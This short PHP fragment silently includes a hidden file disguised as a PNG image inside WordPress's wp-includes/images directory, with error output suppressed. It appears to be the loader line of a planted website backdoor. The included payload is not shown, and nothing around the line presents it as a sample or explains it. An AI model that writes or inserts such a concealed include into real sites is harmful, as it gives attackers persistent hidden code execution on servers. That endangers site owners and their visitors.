<?php
@include_once('/var/www/html/wp-includes/images/.cache-7f3a.png');
